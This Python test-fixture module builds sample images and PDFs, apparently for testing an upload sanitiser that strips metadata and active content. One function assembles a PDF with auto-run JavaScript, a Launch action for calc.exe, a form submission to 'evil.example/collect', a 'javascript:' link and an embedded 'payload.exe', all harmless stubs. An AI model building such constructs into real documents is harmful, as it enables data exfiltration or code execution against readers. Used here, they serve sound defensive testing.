"""Real files of every kind, good and bad, made anew for each test."""

from __future__ import annotations

import io
import zipfile

import pikepdf
from django.core.files.base import ContentFile
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

BISHKEK = {1: "N", 2: (42.0, 52.0, 12.0), 3: "E", 4: (74.0, 36.0, 0.0)}
GPS, ORIENTATION, CAMERA = 0x8825, 0x0112, 0x0110


def upload(content: bytes, name: str = "photo.jpg") -> ContentFile:
    return ContentFile(content, name=name)


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **facts) -> bytes:
    written = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(written, kind, **facts)
    return written.getvalue()


def photograph_with_place(*, orientation: int = 6, size: tuple[int, int] = (40, 30)) -> bytes:
    """Return a photograph as a telephone takes it: lying on its side, with where, when and by what."""
    exif = Image.Exif()
    exif[ORIENTATION], exif[CAMERA] = orientation, "Secret telephone"
    exif[GPS] = BISHKEK
    return picture("JPEG", size, exif=exif, comment=b"taken at my home")


def moving(kind: str) -> bytes:
    written = io.BytesIO()
    one, other = Image.new("RGB", (8, 8), "red"), Image.new("RGB", (8, 8), "blue")
    one.save(written, kind, save_all=True, append_images=[other])
    return written.getvalue()


def zipped() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("run.exe", "MZ")
    return written.getvalue()


def paper(pages: int = 1) -> pikepdf.Pdf:
    made = pikepdf.new()
    for number in range(pages):
        made.add_blank_page(page_size=(200, 200))
        made.pages[-1].Contents = made.make_stream(b"0 0 %d 10 re f" % (number + 1))
    return made


def saved(made: pikepdf.Pdf, **facts) -> bytes:
    written = io.BytesIO()
    made.save(written, **facts)
    return written.getvalue()


def script(code: str = "app.alert('hello')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]), A=action)


def paper_that_acts() -> bytes:
    """Return a PDF with everything that a PDF should not do."""
    made = paper()
    made.Root.OpenAction = made.make_indirect(script())
    made.Root.AA = Dictionary(WC=script())
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), made.make_indirect(script())]))
    )
    made.attachments["payload.exe"] = b"MZ-payload"
    made.pages[0].AA = Dictionary(O=script())
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("field"), Rect=Array([0, 0, 9, 9]),
        AA=Dictionary(K=script("steal()")),
    )  # fmt: skip
    notes = [
        link(Dictionary(S=Name.Launch, F=String("calc.exe"))),
        link(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))),
        link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        link(Dictionary(S=Name.URI, URI=String("https://ishenim.example/"), Next=script())),
        link(Dictionary(S=Name.URI, URI=String("https://ishenim.example/law"))),
        Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 9, 9]), T=String("Secret author")),
        field,
    ]
    made.pages[0].Annots = Array([made.make_indirect(note) for note in notes])
    made.Root.AcroForm = Dictionary(Fields=Array([made.pages[0].Annots[-1]]), XFA=String("<xdp/>"))
    with made.open_metadata() as about:
        about["dc:creator"] = ["Secret author"]
    made.docinfo["/Author"] = "Secret author"
    return saved(made)


def paper_with_photograph() -> bytes:
    made = paper()
    image = made.make_stream(
        photograph_with_place(), Type=Name.XObject, Subtype=Name.Image, Width=40, Height=30,
        ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.DCTDecode,
    )  # fmt: skip
    made.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))
    made.pages[0].Contents = made.make_stream(b"q 40 0 0 30 0 0 cm /Im0 Do Q")
    return saved(made)


def filled_form() -> bytes:
    """Return a PDF with a field into which somebody wrote."""
    made = paper()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    field = made.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("what"), V=String("Two lamps"),
            Rect=Array([10, 10, 190, 40]), DA=String("/Helv 12 Tf 0 g"), F=4,
            AP=Dictionary(N=made.make_stream(
                b"BT /Helv 12 Tf (Two lamps) Tj ET", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 180, 30]),
                Resources=Dictionary(Font=Dictionary(Helv=font)),
            )),
        )
    )  # fmt: skip
    made.pages[0].Annots = Array([field])
    made.Root.AcroForm = Dictionary(
        Fields=Array([field]), DA=String("/Helv 12 Tf 0 g"), DR=Dictionary(Font=Dictionary(Helv=font))
    )
    return saved(made)
